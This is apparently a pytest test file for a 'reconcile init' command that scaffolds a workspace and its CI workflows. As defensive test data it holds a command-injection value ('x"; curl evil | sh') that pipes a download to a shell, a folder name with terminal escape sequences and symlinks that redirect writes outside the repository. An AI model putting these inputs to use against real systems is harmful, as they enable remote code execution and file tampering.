"""`reconcile init`: a new workspace, one added to an existing repository, one in a subdirectory."""

from __future__ import annotations

import re
import subprocess
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from reconciler.cli.main import main
from reconciler.workspace.scaffold import render_workflows, tool_version
from tests.conftest import WS, allow_ephemeral_state, cli, plan_json

WORKSPACE_FILES = (
    "reconcile.yaml",
    "integrations/sandbox.yaml",
    "activations/new-customers.yaml",
    "segments/first-order-last-7-days.yaml",
    ".gitignore",
)


def init(*args: str):
    return CliRunner().invoke(main, ["init", *args])


def git_repo(path: Path) -> Path:
    path.mkdir(parents=True, exist_ok=True)
    subprocess.run(["git", "init", "-q", str(path)], check=True)
    return path


def test_init_new_directory_writes_a_workspace_that_plans(tmp_path: Path):
    root = tmp_path / "new"
    res = init(str(root))
    assert res.exit_code == 0, res.output
    for rel in WORKSPACE_FILES:
        assert (root / rel).is_file(), rel
    flows = sorted(p.name for p in (root / ".github/workflows").iterdir())
    assert flows == ["reconcile-apply.yml", "reconcile-plan.yml"]
    assert (root / ".gitignore").read_text() == ".reconcile/\n*.plan\n"
    apply = yaml.safe_load((root / ".github/workflows/reconcile-apply.yml").read_text())
    assert apply["env"]["RECONCILE_REQUIREMENT"] == f"activation-reconciler=={tool_version()}"
    assert apply["jobs"]["apply"]["defaults"]["run"]["working-directory"] == "."
    plan = plan_json(WS(root))  # the demo database is generated on first use
    (act,) = plan["activations"]
    assert act["id"] == "new-customers" and act["change"] == "create"


def test_init_into_an_existing_repository_touches_nothing_there(tmp_path: Path):
    repo = git_repo(tmp_path / "repo")
    (repo / ".gitignore").write_text("node_modules/\n*.plan")  # no final newline
    (repo / "integrations").mkdir()
    (repo / "integrations/sandbox.yaml").write_text("# mine\n")
    (repo / ".github/workflows").mkdir(parents=True)
    (repo / ".github/workflows/ci.yml").write_text("name: ci\n")
    (repo / ".github/workflows/reconcile-plan.yml").write_text("# my own\n")

    res = init(str(repo))
    assert res.exit_code == 0, res.output
    assert (repo / "integrations/sandbox.yaml").read_text() == "# mine\n"
    assert (repo / ".github/workflows/ci.yml").read_text() == "name: ci\n"
    assert (repo / ".github/workflows/reconcile-plan.yml").read_text() == "# my own\n"
    assert (repo / ".github/workflows/reconcile-apply.yml").is_file()
    assert (repo / "activations/new-customers.yaml").is_file()
    # only the missing line is appended, once
    assert (repo / ".gitignore").read_text() == (
        "node_modules/\n*.plan\n# activation reconciler\n.reconcile/\n"
    )
    assert f"kept {repo / 'integrations/sandbox.yaml'} (exists; not overwritten)" in res.output
    assert f"kept {repo / '.github/workflows/reconcile-plan.yml'}" in res.output
    assert f"appended our lines to {repo / '.gitignore'}" in res.output

    again = init(str(repo))
    assert again.exit_code == 0 and "created" not in again.output
    assert (repo / ".gitignore").read_text().count(".reconcile/") == 1


def test_init_in_an_existing_workspace_adds_no_sample_files(tmp_path: Path):
    repo = git_repo(tmp_path / "repo")
    (repo / "reconcile.yaml").write_text("version: 1\n")
    res = init(str(repo))
    assert res.exit_code == 0, res.output
    assert not (repo / "activations").exists()  # a sample activation would be sent
    assert (repo / ".github/workflows/reconcile-plan.yml").is_file()
    assert f"kept {repo / 'reconcile.yaml'}" in res.output


def test_init_subdir_puts_workflows_at_the_repository_root(tmp_path: Path):
    repo = git_repo(tmp_path / "repo")
    res = init(str(repo / "marketing" / "audiences"))
    assert res.exit_code == 0, res.output
    ws = repo / "marketing/audiences"
    for rel in WORKSPACE_FILES:
        assert (ws / rel).is_file(), rel
    assert not (ws / ".github").exists()  # GitHub reads workflows only at the root
    flows = repo / ".github/workflows"
    plan_flow = yaml.safe_load((flows / "reconcile-plan-marketing-audiences.yml").read_text())
    apply_flow = yaml.safe_load((flows / "reconcile-apply-marketing-audiences.yml").read_text())
    job = plan_flow["jobs"]["plan"]
    assert job["defaults"]["run"]["working-directory"] == "marketing/audiences"
    # PyYAML reads the key `on` as True
    assert "marketing/audiences/activations/**" in plan_flow[True]["pull_request"]["paths"]
    assert "marketing/audiences/segments/**" in apply_flow[True]["push"]["paths"]
    for job in apply_flow["jobs"].values():
        assert job["defaults"]["run"]["working-directory"] == "marketing/audiences"
        assert job["concurrency"]["group"] == "reconcile-apply-marketing-audiences"


def test_init_subdir_outside_git_is_its_own_root(tmp_path: Path):
    res = init(str(tmp_path / "plain"))
    assert res.exit_code == 0, res.output
    assert (tmp_path / "plain/.github/workflows/reconcile-plan.yml").is_file()


def test_init_install_option_and_bad_input(tmp_path: Path):
    req = "activation-reconciler @ git+https://github.com/acme/reconciler@v0.1.0"
    res = init(str(tmp_path / "a"), "--install", req)
    assert res.exit_code == 0, res.output
    flow = yaml.safe_load((tmp_path / "a/.github/workflows/reconcile-plan.yml").read_text())
    assert flow["env"]["RECONCILE_REQUIREMENT"] == req

    bad = init(str(tmp_path / "b"), "--install", 'x"; curl evil | sh')
    assert bad.exit_code == 1 and "is not a pip requirement" in bad.stderr
    assert not (tmp_path / "b").exists()  # checked before anything is written
    for loose in (
        "activation-reconciler>=0.1",
        "activation-reconciler",
        "activation-reconciler~=0.1",
        "activation-reconciler @ git+https://github.com/acme/reconciler",
    ):
        unpinned = init(str(tmp_path / "b"), "--install", loose)
        assert unpinned.exit_code == 1 and "is not pinned" in unpinned.stderr, loose
    assert not (tmp_path / "b").exists()

    (tmp_path / "file").write_text("")
    res = init(str(tmp_path / "file"))
    assert res.exit_code != 0


def test_rendered_workflows_carry_no_template_token():
    for text in render_workflows("a/b").values():
        assert not re.search(r"@[A-Z]+@", text)


def test_two_workspaces_whose_workflow_names_collide_are_refused(tmp_path: Path):
    """`a/b` and `a-b` give the same workflow file names: the second init must not leave
    its workspace without CI while saying nothing."""
    repo = git_repo(tmp_path / "repo")
    assert init(str(repo / "a" / "b")).exit_code == 0
    res = init(str(repo / "a-b"))
    assert res.exit_code == 1
    assert "already runs the workspace 'a/b'" in res.output
    assert not (repo / "a-b" / "reconcile.yaml").exists()  # nothing written


def test_a_folder_name_with_terminal_escapes_plans_applies_and_prints_escaped(tmp_path: Path):
    """The folder's name is shown in plans, PR comments and init's output: escaped. Raw, it
    reached the terminal, and the saved plan was refused as corrupt ('workspace holds a
    control character'), which making the plan again could never fix."""
    root = tmp_path / "evil\x1b]0;TITLE\x07\x1b[2Jx"
    res = init(str(root))
    assert res.exit_code == 0 and "\x1b" not in res.output and "\\x1b]0;TITLE" in res.output
    allow_ephemeral_state(root)  # under CI=true apply refuses a state that dies with the runner
    ws = WS(root)
    saved = cli(ws, "plan", "--out", "p.plan")
    assert saved.exit_code == 0, saved.stderr
    assert "\x1b" not in saved.output and 'workspace "evil\\x1b]0;TITLE\\x07' in saved.output
    shown = cli(ws, "show", "p.plan")
    assert shown.exit_code == 0, shown.stderr
    assert "\x1b" not in shown.output + shown.stderr
    applied = cli(ws, "apply", "--auto-approve", "p.plan")
    assert applied.exit_code == 0, applied.stderr
    assert "new-customers: Complete" in applied.output


@pytest.mark.parametrize(
    "link",
    [".gitignore", ".github/workflows/reconcile-plan.yml", "segments/first-order-last-7-days.yaml"],
)
def test_init_writes_nothing_through_a_symbolic_link(tmp_path: Path, link: str):
    """A cloned repository may hold links to files outside it: init appended to the file a
    `.gitignore` link pointed at, and created files at the targets of dangling links."""
    repo = git_repo(tmp_path / "repo")
    victim = tmp_path / "victim"
    victim.write_text("export SAFE=1\n")
    (repo / link).parent.mkdir(parents=True, exist_ok=True)
    target = victim if link == ".gitignore" else tmp_path / "created-outside"
    (repo / link).symlink_to(target)
    res = init(str(repo))
    assert res.exit_code == 1, res.output
    assert "symbolic link" in res.output
    assert victim.read_text() == "export SAFE=1\n"
    assert not (tmp_path / "created-outside").exists()
    assert not (repo / "reconcile.yaml").exists()  # refused before writing anything
